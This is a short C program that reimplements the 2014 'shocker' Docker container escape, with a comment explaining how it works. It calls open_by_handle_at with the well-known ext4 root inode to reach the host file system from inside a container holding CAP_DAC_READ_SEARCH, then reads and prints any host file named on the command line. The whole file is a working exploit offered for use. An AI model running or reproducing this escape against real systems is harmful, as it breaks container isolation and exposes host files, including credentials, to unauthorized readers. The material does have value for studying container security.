/* shocker FOLDER FILE: read FILE, a path on the file system that FOLDER is on,
 * although no path leads there.
 *
 * open_by_handle_at(2) opens a file by what it has instead of a name, its number
 * on the disk: file servers need that.  The root folder of most file systems has
 * a number that everybody knows; 2 on ext4.  From there one walks down.  All one
 * needs is some file of that file system, and in Docker of 2014 that was
 * /.dockerinit, and CAP_DAC_READ_SEARCH was among the rights that it left.  The
 * program was called shocker. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct { struct file_handle handle; uint32_t number, generation; } root =
        { { sizeof(uint32_t[2]), 1 }, 2, 0 };
    char text[1000];
    int place = argc == 3 ? open(argv[1], O_RDONLY) : -1;
    if (place == -1)
        return 2;
    int folder = open_by_handle_at(place, &root.handle, O_RDONLY | O_DIRECTORY);
    if (folder == -1) {
        perror("shocker");
        return 1;
    }
    int file = openat(folder, argv[2] + strspn(argv[2], "/"), O_RDONLY);
    ssize_t size = read(file, text, sizeof text);
    if (size <= 0) {
        perror(argv[2]);
        return 1;
    }
    return write(1, text, (size_t)size) != size;
}
